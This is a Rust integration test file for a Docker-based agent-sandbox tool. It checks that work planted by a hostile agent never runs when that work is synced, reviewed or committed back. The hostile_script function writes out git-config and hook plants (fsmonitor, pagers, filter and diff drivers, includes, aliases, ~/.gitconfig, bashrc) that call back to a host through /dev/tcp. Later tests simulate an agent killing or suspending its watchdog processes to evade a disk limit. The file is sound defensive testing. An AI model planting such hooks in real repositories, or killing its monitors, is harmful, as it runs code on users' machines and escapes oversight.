//! A hostile agent plants code for whoever reads its work back: git config (fsmonitor, hooks,
//! pager, filter/diff drivers, includes), attributes, hooks, a replaced alternates file, its
//! home's git config and shell rc files. Reading the finished task's work back (sync, review,
//! commit, shell) must run none of it, and the work still comes back. Also: the time limit
//! of a sync, names that cannot collide across tasks, the disk limit and log rotation.

use std::process::{Command, Stdio};
use std::time::Duration;

use crate::common::{TestEnv, base_image};
use crate::require_docker;
use crate::servers::HostService;

/// Files named MARK-* in a volume, read by a fresh container.
fn marks_in_volume(volume: &str) -> String {
    let out = Command::new("docker")
        .args([
            "run",
            "--rm",
            "--network",
            "none",
            "-v",
            &format!("{volume}:/v:ro"),
            &base_image(),
            "sh",
            "-c",
            "find /v -name 'MARK-*' 2>/dev/null; true",
        ])
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The agent does its work, then plants. Every planted command writes a MARK file into the
/// workspace (a volume, so it outlives any container) and calls the host service.
fn hostile_script(port: u16) -> String {
    let hit = |what: &str| format!("sh /workspace/.evil/p {what}");
    format!(
        r#"set -e
echo work > work.txt
git add work.txt && git -c user.name=a -c user.email=a@x commit -qm "the work"
echo more >> work.txt
echo untracked > new.txt
mkdir -p .evil
cat > .evil/p <<'EOP'
touch "/workspace/MARK-$1"
bash -c "echo $1 > /dev/tcp/172.17.0.1/PORT" 2>/dev/null
cat
EOP
sed -i "s/PORT/{port}/" .evil/p
cat >> .git/config <<'EOC'
[core]
	fsmonitor = "{fsmon}"
	hooksPath = /workspace/.evil-hooks
	pager = "{pager}"
	editor = "{editor}"
[filter "evil"]
	clean = "{clean}"
	smudge = "{smudge}"
	required = true
[diff "evil"]
	textconv = "{textconv}"
	command = "{diffcmd}"
[diff]
	external = "{external}"
[include]
	path = /workspace/.evil-include
[alias]
	status = "!{alias}"
EOC
printf '[core]\n\tfsmonitor = "{inc}"\n' > .evil-include
echo '* filter=evil diff=evil' > .gitattributes
mkdir -p .evil-hooks
for h in pre-commit post-commit post-checkout post-index-change reference-transaction pre-auto-gc; do
  printf '#!/bin/sh\n{hook}\n' > .evil-hooks/$h; cp .evil-hooks/$h .git/hooks/$h
done
chmod +x .evil-hooks/* .git/hooks/*
printf '[core]\n\tfsmonitor = "{home}"\n' > ~/.gitconfig
printf '{bashrc}\n' > ~/.bashrc; cp ~/.bashrc ~/.profile; cp ~/.bashrc /workspace/.bashrc
mkdir -p .git/objects/info && echo /nonexistent/objects > .git/objects/info/alternates
"#,
        fsmon = hit("fsmonitor"),
        pager = hit("pager"),
        editor = hit("editor"),
        clean = hit("clean"),
        smudge = hit("smudge"),
        textconv = hit("textconv"),
        diffcmd = hit("diffcmd"),
        external = hit("external"),
        alias = hit("alias"),
        inc = hit("include"),
        hook = hit("hook"),
        home = hit("homeconfig"),
        bashrc = hit("bashrc"),
    )
}

#[test]
fn planted_code_never_runs_when_the_work_is_read_back() {
    require_docker!();
    let env = TestEnv::new();
    // A planted command that reaches the host connects here.
    let service = HostService::start();
    let script = hostile_script(service.any_port);
    env.agent(&[
        "spawn", "--name", "plant", "--wait", "-m", "x", "--", "sh", "-c", &script,
    ])
    .ok();
    let before = env.snapshot();
    let names = env.names_of("plant");
    assert_eq!(
        marks_in_volume(&names.volume),
        "",
        "the agent itself ran a plant"
    );

    // sync: the work comes back (the commit, the uncommitted change and the new file).
    let sync = env.agent(&["sync", "plant"]).ok();
    assert!(sync.stderr.contains("synced"), "{sync}");
    let refs = env.task_refs("plant");
    let wip = refs["wip"].clone();
    assert_eq!(
        env.git(&["show", &format!("{wip}:work.txt")]).ok().stdout,
        "work\nmore\n"
    );
    assert_eq!(
        env.git(&["show", &format!("{wip}:new.txt")]).ok().stdout,
        "untracked\n"
    );
    assert_eq!(
        env.git(&["log", "-1", "--format=%s", &refs["head"]])
            .ok()
            .stdout
            .trim(),
        "the work"
    );
    env.agent(&["review", "plant"]).ok();
    env.agent(&["sync", "plant"]).ok();

    // shell of the finished task, driven through a pseudo-terminal.
    if which::which("script").is_ok() {
        let mut sh = env.pty_command("shell plant");
        sh.stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let mut child = sh.spawn().unwrap();
        {
            use std::io::Write;
            let mut stdin = child.stdin.take().unwrap();
            stdin
                .write_all(
                    b"git status --short; git diff; git log -p -2; git show HEAD; git add -A; git -c user.name=u -c user.email=u@x commit -qm y; echo done-$((6*7))\nexit\n",
                )
                .unwrap();
            std::thread::sleep(Duration::from_secs(5));
        }
        let out = child.wait_with_output().unwrap();
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.contains("done-42"), "{text}");
    } else {
        eprintln!("SKIPPED (shell part): util-linux `script` is not installed");
    }

    env.agent(&["commit", "plant", "-m", "wip"]).ok();

    let marks = marks_in_volume(&names.volume);
    assert_eq!(marks, "", "planted code ran");
    service.assert_untouched(&[]);
    let mut after = env.snapshot();
    // commit creates agent/plant; everything else is unchanged.
    let refs_after: Vec<String> = after["refs"]
        .lines()
        .filter(|l| !l.starts_with("refs/heads/agent/") && !l.starts_with("refs/notes/"))
        .map(str::to_string)
        .collect();
    after.insert("refs".into(), refs_after.join("\n"));
    assert_eq!(after, before);
    let (containers, _, _) = env.runtime_objects();
    assert_eq!(
        containers,
        vec![names.container.clone()],
        "reader left behind"
    );
}

/// A sync that cannot finish in time (a huge sparse file to hash) stops at
/// agent.syncTimeout with a clear error; nothing changes and no reader is left.
#[test]
fn a_sync_that_hangs_hits_its_time_limit() {
    require_docker!();
    let env = TestEnv::new();
    env.agent(&[
        "spawn",
        "--name",
        "slow",
        "--wait",
        "-m",
        "x",
        "--",
        "sh",
        "-c",
        "truncate -s 200g huge.bin",
    ])
    .ok();
    env.git(&["config", "agent.syncTimeout", "2s"]).ok();
    let before = env.snapshot();
    let start = std::time::Instant::now();
    let run = env.agent(&["sync", "slow"]).fails();
    assert!(start.elapsed() < Duration::from_secs(40), "{run}");
    assert!(
        run.stderr.contains("took longer than the 2s limit"),
        "{run}"
    );
    assert!(run.stderr.contains("agent.syncTimeout"), "{run}");
    assert!(!env.task_refs("slow").contains_key("wip"));
    assert_eq!(env.snapshot(), before);
    let (containers, _, _) = env.runtime_objects();
    assert_eq!(
        containers,
        vec![env.container_of("slow")],
        "reader left behind"
    );
}

/// No task name produces another task's object names, and a spawn that fails on a name
/// someone else holds removes nothing that is not its own.
#[test]
fn task_names_cannot_take_another_tasks_objects() {
    require_docker!();
    let env = TestEnv::new();
    env.agent(&["spawn", "--name", "a", "-m", "x", "--", "sleep", "300"])
        .ok();
    for evil in ["a-gw", "a-net", "gw.a", "task.a", "a-ws"] {
        env.agent(&["spawn", "--name", evil, "--wait", "-m", "x", "--", "true"])
            .ok();
    }
    // Something else (not labelled as a task) holds task b's gateway name.
    let squatter = env.names_of("b").gateway;
    let made = Command::new("docker")
        .args(["create", "--name", &squatter, &base_image(), "true"])
        .output()
        .unwrap();
    assert!(made.status.success(), "{made:?}");
    let failed = env.agent(&["spawn", "--name", "b", "-m", "x", "--", "true"]);
    assert_ne!(failed.code, 0, "{failed}");
    let exists = |args: &[&str]| {
        Command::new("docker")
            .args(args)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .unwrap()
            .success()
    };
    assert!(
        exists(&["inspect", &squatter]),
        "the failed spawn removed {squatter}"
    );
    Command::new("docker")
        .args(["rm", "-f", &squatter])
        .output()
        .unwrap();
    let a = env.names_of("a");
    for c in [&a.container, &a.gateway] {
        assert!(exists(&["inspect", c]), "{c} is gone");
    }
    assert!(exists(&["volume", "inspect", &a.volume]));
    assert!(exists(&["network", "inspect", &a.network]));
    let st = env.json(&["status", "a", "--json"]);
    assert_eq!(st["status"], "running", "{st}");
    // Purging the look-alikes leaves `a` alone too.
    for evil in ["a-gw", "a-net", "gw.a", "task.a", "a-ws"] {
        env.agent(&["purge", evil, "--refs"]).ok();
    }
    assert!(exists(&["inspect", &a.gateway]));
    assert!(exists(&["volume", "inspect", &a.volume]));
    env.agent(&["purge", "a", "--refs"]).ok();
}

/// An agent that writes past agent.diskLimit is stopped with a clear record; the task's
/// container has rotated logs.
#[test]
fn the_disk_limit_stops_the_task_and_logs_rotate() {
    require_docker!();
    let env = TestEnv::new();
    env.git(&["config", "agent.diskLimit", "2m"]).ok();
    let start = std::time::Instant::now();
    let run = env.agent(&[
        "spawn",
        "--name",
        "fill",
        "--wait",
        "-m",
        "x",
        "--",
        "sh",
        "-c",
        "head -c 8000000 /dev/urandom > big.bin; sleep 120",
    ]);
    // Stopped by the helper's watcher (TERM, 143) or by the warden (KILL, 137), whichever
    // measures first.
    assert!(matches!(run.code, 137 | 143), "{run}");
    assert!(
        run.stderr.contains("workspace over its 2m disk limit"),
        "{run}"
    );
    assert!(start.elapsed() < Duration::from_secs(60));
    let st = env.json(&["status", "fill", "--json"]);
    assert_eq!(st["reason"], "workspace over its 2m disk limit", "{st}");
    let log = Command::new("docker")
        .args([
            "inspect",
            "-f",
            "{{.HostConfig.LogConfig.Type}} {{index .HostConfig.LogConfig.Config \"max-size\"}} {{index .HostConfig.LogConfig.Config \"max-file\"}}",
            &env.container_of("fill"),
        ])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&log.stdout).trim(),
        "json-file 20m 5"
    );
    // The agent kills every other process it can (the watcher among them) before filling
    // the disk: the watcher is the container's main process, so the task ends with it
    // instead of running on unwatched.
    let start = std::time::Instant::now();
    let run = env.agent(&[
        "spawn",
        "--name",
        "unwatch",
        "--wait",
        "-m",
        "x",
        "--",
        "sh",
        "-c",
        "for p in $(ls /proc | grep -E '^[0-9]+$'); do [ $p = $$ ] || kill -9 $p 2>/dev/null; done; \
         head -c 8000000 /dev/urandom > big.bin; echo still-running; sleep 120",
    ]);
    assert_ne!(run.code, 0, "{run}");
    assert!(start.elapsed() < Duration::from_secs(60), "{run}");
    let st = env.json(&["status", "unwatch", "--json"]);
    assert_ne!(st["status"], "running", "{st}");
    // The agent suspends every other process it can (the helper's watcher, and it tries the
    // warden's, which it may not signal), then fills the disk: the warden, outside its reach
    // in the same PID namespace, stops the task and says why.
    let start = std::time::Instant::now();
    let run = env.agent(&[
        "spawn",
        "--name",
        "suspend",
        "--wait",
        "-m",
        "x",
        "--",
        "sh",
        "-c",
        "for p in $(ls /proc | grep -E '^[0-9]+$'); do [ $p = $$ ] || kill -STOP $p 2>/dev/null; done; \
         head -c 8000000 /dev/urandom > big.bin; sleep 120",
    ]);
    assert_eq!(run.code, 137, "{run}");
    assert!(start.elapsed() < Duration::from_secs(60), "{run}");
    let st = env.json(&["status", "suspend", "--json"]);
    assert_eq!(st["reason"], "workspace over its 2m disk limit", "{st}");
    // The warden is gone with its task.
    let names = env.names_of("suspend");
    let left = Command::new("docker")
        .args(["ps", "-aq", "--filter", &format!("name=^{}$", names.warden)])
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&left.stdout).trim().is_empty());
}
